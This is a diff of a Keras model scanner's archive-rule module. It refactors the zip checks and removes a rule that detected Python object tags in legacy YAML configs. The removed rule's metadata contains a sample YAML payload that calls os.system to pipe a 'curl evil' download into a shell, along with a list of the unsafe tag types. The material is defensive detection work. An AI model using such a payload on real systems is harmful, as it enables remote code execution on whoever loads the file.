@@ -1,9 +1,8 @@
-"""KG3xx: archive and container rules (zip members, model directories, JSON ambiguity), and KG107.
+"""KG3xx: archive and container rules (zip members, model directories, JSON ambiguity).
 
 Readers record what an archive *says* (names, attributes, sizes, header disagreements); these rules
 judge it. Most zip tricks are parser differentials: the scanner, Keras's ``zipfile`` and ``unzip``
 each see a different archive. Where Keras's own view is known the messages say which one it uses.
-KG107 (legacy YAML with Python tags) lives here because the YAML reader ships with this family.
 """
 
 from __future__ import annotations
@@ -15,12 +14,11 @@ from collections.abc import Iterator
 
 from kerasguard.findings import Location, Severity
 from kerasguard.formats.artifact import Artifact, DirListing, JsonDocument, ZipListing, ZipMember
-from kerasguard.formats.keras_zip import KERAS_EXPECTED, display_name, is_expected_keras_name
-from kerasguard.formats.zip_inflate import method_name
-from kerasguard.formats.zip_layout import FLAG_STRONG_ENCRYPTION, RECOVERED_NOTE
-from kerasguard.rules.base import Hit, Rule, RuleContext
+from kerasguard.formats.zip.archive import KERAS_EXPECTED, display_name, is_expected_keras_name
+from kerasguard.formats.zip.inflate import method_name
+from kerasguard.formats.zip.layout import FLAG_STRONG_ENCRYPTION, RECOVERED_NOTE
+from kerasguard.rules.base import Hit, Rule, RuleContext, capped
 
-MAX_HITS_PER_LISTING = 20  # then one summary hit: a hostile archive must not flood the report
 KERAS_4GIB = 1 << 32
 KERAS_EXTRACT_FLOOR = 1 << 28
 KERAS_RATIO = 100
@@ -34,12 +32,6 @@ CONFIG_IDENTITY_KEYS = frozenset({"class_name", "module", "registered_name", "fu
 
 def _loc(listing: ZipListing, m: ZipMember) -> Location:
     return listing.location.child(member=display_name(m.name))
-
-
-def _capped(hits: list[Hit], where: Location, what: str) -> Iterator[Hit]:
-    yield from hits[:MAX_HITS_PER_LISTING]
-    if len(hits) > MAX_HITS_PER_LISTING:
-        yield Hit(where, f"{len(hits) - MAX_HITS_PER_LISTING} more {what} not listed")
 
 
 def _escapes(name: str, target: str) -> bool:
@@ -105,7 +97,7 @@ def _check_kg301(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                         severity=issues[0][0],
                     )
                 )
-        yield from _capped(hits, listing.location, "members with unsafe paths")
+        yield from capped(hits, listing.location, "members with unsafe paths")
 
 
 # --- KG302 -----------------------------------------------------------------------------------------
@@ -130,7 +122,7 @@ def _check_kg302(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                     severity=Severity.HIGH if escapes else Severity.MEDIUM,
                 )
             )
-        yield from _capped(hits, listing.location, "symlink members")
+        yield from capped(hits, listing.location, "symlink members")
     for folder in art.dirs:
         yield from _dir_links(folder)
 
@@ -196,7 +188,7 @@ def _check_kg303(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                         severity=Severity.LOW,
                     )
                 )
-        yield from _capped(hits, listing.location, "duplicate names")
+        yield from capped(hits, listing.location, "duplicate names")
 
 
 # --- KG304 -----------------------------------------------------------------------------------------
@@ -218,7 +210,7 @@ def _check_kg304(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                 )
             if m.local_problem and m.local_problem != RECOVERED_NOTE:
                 hits.append(Hit(_loc(listing, m), m.local_problem, severity=Severity.MEDIUM))
-        yield from _capped(hits, listing.location, "structural disagreements")
+        yield from capped(hits, listing.location, "structural disagreements")
 
 
 # --- KG305 -----------------------------------------------------------------------------------------
@@ -236,7 +228,7 @@ def _check_kg305(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
             for m in listing.members
             if m.encrypted or m.flag_bits & FLAG_STRONG_ENCRYPTION or m.compress_type == 99
         ]
-        yield from _capped(hits, listing.location, "encrypted members")
+        yield from capped(hits, listing.location, "encrypted members")
 
 
 # --- KG306 -----------------------------------------------------------------------------------------
@@ -251,7 +243,7 @@ def _check_kg306(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
             for m in listing.members
             if not is_expected_keras_name(m.name.rstrip("/") if m.is_dir else m.name)
         ]
-        yield from _capped(hits, listing.location, "unexpected members")
+        yield from capped(hits, listing.location, "unexpected members")
     for folder in art.dirs:
         hits = []
         for entry in folder.entries:
@@ -267,7 +259,7 @@ def _check_kg306(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                 )
             elif not is_expected_keras_name(entry.name) and "/" not in entry.name:
                 hits.append(Hit(where, f"unexpected {entry.kind} in a Keras model directory"))
-        yield from _capped(hits, folder.location, "unexpected entries")
+        yield from capped(hits, folder.location, "unexpected entries")
 
 
 # --- KG307 -----------------------------------------------------------------------------------------
@@ -334,7 +326,7 @@ def _check_kg308(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
                     evidence=f"{len(listing.members)} members",
                 )
             )
-        yield from _capped(hits, listing.location, "oversized members")
+        yield from capped(hits, listing.location, "oversized members")
 
 
 # --- KG309 -----------------------------------------------------------------------------------------
@@ -413,48 +405,7 @@ def _check_kg311(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
 # --- KG107 -----------------------------------------------------------------------------------------
 
 
-def _check_kg107(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
-    hits = [
-        Hit(
-            tag.location,
-            f"YAML tag {tag.tag!r} on line {tag.line}: an unsafe YAML loader imports or calls the named "
-            "Python object while reading the file",
-            evidence=tag.raw,
-        )
-        for tag in art.yaml_tags
-        if tag.is_python
-    ]
-    yield from _capped(hits, art.location, "Python YAML tags")
-
-
 RULES: tuple[Rule, ...] = (
-    Rule(
-        id="KG107",
-        name="yaml-python-tag",
-        title="Legacy YAML config with Python object tags",
-        severity=Severity.CRITICAL,
-        cwe="CWE-502",
-        cves=("CVE-2021-37678",),
-        rationale=(
-            "Legacy Keras YAML configs were read with `yaml.unsafe_load` (TensorFlow < 2.3.4, 2.4.x < "
-            "2.4.3, 2.5.0: CVE-2021-37678). YAML tags under `tag:yaml.org,2002:python/` "
-            "(`!!python/object/apply`, `!!python/name`, `!!python/module`, `!!python/object/new`...) make "
-            "such a loader import modules and call functions while it builds the document, before any "
-            "model exists: arbitrary code execution. Keras never writes these tags. Critical because "
-            "the payload runs on read. Tags are found by text search with %TAG handles and %-escapes "
-            "resolved, never by running a YAML loader."
-        ),
-        remediation=(
-            "Do not load the file. Legacy YAML configs are not supported by Keras 3; rebuild the model "
-            "from trusted code or a `.keras` file. If YAML must be read, use `yaml.safe_load` only."
-        ),
-        example='`class_name: !!python/object/apply:os.system ["curl evil | sh"]`',
-        references=(
-            "https://github.com/advisories/GHSA-r6jx-9g48-2r5r",
-            "https://pyyaml.org/wiki/PyYAMLDocumentation",
-        ),
-        check=_check_kg107,
-    ),
     Rule(
         id="KG301",
         name="unsafe-member-path",
